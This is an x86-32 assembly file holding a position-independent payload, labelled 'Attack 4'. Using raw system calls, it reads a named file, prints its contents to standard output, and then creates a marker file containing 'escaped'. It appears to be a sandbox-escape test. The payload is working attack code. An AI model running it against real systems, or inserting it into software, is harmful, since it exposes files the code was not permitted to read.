/* Attack 4's payload for x86-32: int payload(const char *steal, const char *create,
   char *buf) reads steal into buf and writes it to standard output, then creates create
   and writes "escaped" into it, by raw system calls. Position-independent. */
    .text
    .globl payload
payload:
    pushl %ebx
    pushl %esi
    pushl %edi
    pushl %ebp
    movl $295, %eax             /* openat(AT_FDCWD, steal, O_RDONLY) */
    movl $-100, %ebx
    movl 20(%esp), %ecx
    xorl %edx, %edx
    int $0x80
    movl %eax, %ebx             /* read(fd, buf, 200) */
    movl $3, %eax
    movl 28(%esp), %ecx
    movl $200, %edx
    int $0x80
    xorl %edx, %edx             /* write(1, buf, max(n, 0)) */
    testl %eax, %eax
    cmovgl %eax, %edx
    movl $4, %eax
    movl $1, %ebx
    movl 28(%esp), %ecx
    int $0x80
    movl $295, %eax             /* openat(AT_FDCWD, create, O_WRONLY|O_CREAT, 0644) */
    movl $-100, %ebx
    movl 24(%esp), %ecx
    movl $65, %edx
    movl $420, %esi
    int $0x80
    movl %eax, %ebx             /* write(fd, "escaped\n", 8) */
    pushl $0x0a646570
    pushl $0x61637365
    movl $4, %eax
    movl %esp, %ecx
    movl $8, %edx
    int $0x80
    addl $8, %esp
    popl %ebp
    popl %edi
    popl %esi
    popl %ebx
    ret
